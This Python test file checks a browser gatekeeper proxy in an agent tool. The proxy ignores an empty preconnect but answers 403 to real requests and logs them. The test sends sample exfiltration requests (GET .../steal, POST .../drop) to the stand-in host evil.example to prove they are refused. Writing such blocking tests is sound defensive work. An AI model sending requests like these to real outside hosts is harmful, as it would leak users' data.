"""The gatekeeper proxy refuses and records what the browser sends around the network guard, and
only that: a connection opened ahead of need and closed with nothing sent is no send."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

from taskcrew.tools.browser.gatekeeper import Gatekeeper


def _wait_for(check: Callable[[], bool], seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not check():
        time.sleep(0.02)


def test_an_unused_connection_is_not_a_refused_send_but_a_request_is() -> None:
    keeper = Gatekeeper()
    port = keeper.start()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5):
            pass  # Chromium's preconnect: opened, then closed without a request line
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            sock.sendall(b"GET http://evil.example/steal?x=1 HTTP/1.1\r\nHost: evil.example\r\n\r\n")
            answer = sock.recv(200)
        assert answer.startswith(b"HTTP/1.1 403")
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            sock.sendall(b"\r\nPOST http://evil.example/drop HTTP/1.1\r\n\r\n")  # a blank line first
            assert sock.recv(200).startswith(b"HTTP/1.1 403")
        _wait_for(lambda: keeper.refused_count >= 2)
        time.sleep(0.2)  # the empty connection's handler has long finished: nothing more arrives
        refused = keeper.refused_since(0)
        assert [(r.method, r.target) for r in refused] == [
            ("GET", "http://evil.example/steal?x=1"),
            ("POST", "http://evil.example/drop"),
        ]
    finally:
        keeper.close()
